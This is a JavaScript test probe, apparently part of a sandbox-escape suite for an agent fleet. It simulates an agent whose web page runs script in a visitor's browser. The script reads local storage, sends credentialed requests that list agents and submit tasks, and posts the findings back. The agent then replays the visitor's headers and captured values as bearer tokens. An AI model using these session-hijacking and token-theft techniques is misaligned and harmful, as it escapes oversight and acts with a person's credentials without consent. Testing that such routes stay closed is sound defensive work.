// An agent with a web server. When somebody opens its page, it tries to use the fleet as that person: from the page, and
// with everything that the browser sent. Says for each way whether it got anywhere, one JSON line each.
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tryAll } from './escapes/ways.mjs';

const { fleet } = JSON.parse(readFileSync(0, 'utf8') || '{}');
if (fleet === undefined) process.exit(0);

/** Runs in the browser of whoever opens the page. */
async function inBrowser(url) {
  const attempt = async (what, attempts) => [
    what,
    await attempts().then(
      (got) => got === true,
      () => false,
    ),
  ];
  const framed = () =>
    new Promise((resolve, reject) => {
      const frame = document.createElement('iframe');
      frame.addEventListener('load', () => {
        try {
          resolve(frame.contentWindow.localStorage.length > 0);
        } catch (error) {
          reject(error);
        }
      });
      frame.src = url;
      document.body.append(frame);
    });
  const asked = (path, options) => async () => (await fetch(url + path, options)).ok;
  const found = Object.fromEntries([
    await attempt('find a secret of the page in its own storage', async () => localStorage.length > 0),
    await attempt('read the fleet from its own page', asked('/api/v1/agents', { credentials: 'include' })),
    await attempt(
      'give a task from its own page',
      asked('/api/v1/agents/victim/tasks', { method: 'POST', credentials: 'include', body: '{}' }),
    ),
    await attempt('look into a frame with the page', framed),
  ]);
  await fetch('/found', {
    method: 'POST',
    body: JSON.stringify({ found, storage: Object.entries(localStorage).flat() }),
  });
  document.title = 'tried';
}

const received = [];
const server = createServer((request, response) => {
  received.push(request.headers);
  if (request.url === '/found')
    return void collect(request).then((text) => server.emit('found', text, response));
  response.setHeader('Content-Type', 'text/html');
  response.end(`<!doctype html><body><script>(${inBrowser.toString()})(${JSON.stringify(fleet)})</script>`);
}).listen(0, '127.0.0.1');
const finding = once(server, 'found');
await once(server, 'listening');
console.log(`http://127.0.0.1:${server.address().port}/`);
const [text, response] = await finding;
const { found, storage } = JSON.parse(text);
const secrets = [...received.flatMap((headers) => Object.values(headers)), ...storage];
const succeeds = async (headers) => {
  const answer = await fetch(`${fleet}/api/v1/agents`, { headers });
  if (!answer.ok) throw new Error(String(answer.status));
};
await tryAll({
  ...Object.fromEntries(
    Object.entries(found).map(([what, reached]) => [
      what,
      () => {
        if (!reached) throw new Error('refused');
      },
    ]),
  ),
  'repeat the headers of the browser': () =>
    Promise.any(received.map(({ host: _host, ...headers }) => succeeds(headers))),
  'use what the browser sent as a token': () =>
    Promise.any(secrets.map((secret) => succeeds({ authorization: `Bearer ${encodeURIComponent(secret)}` }))),
});
console.log(JSON.stringify({ what: 'receive a cookie of another port', outcome: cookies() ? 'yes' : 'no' }));
response.end();
server.closeAllConnections();
server.close();

function cookies() {
  return received.some(({ cookie }) => cookie?.includes('of-another-port=yes'));
}

async function collect(stream) {
  let text = '';
  for await (const chunk of stream) text += chunk;
  return text;
}
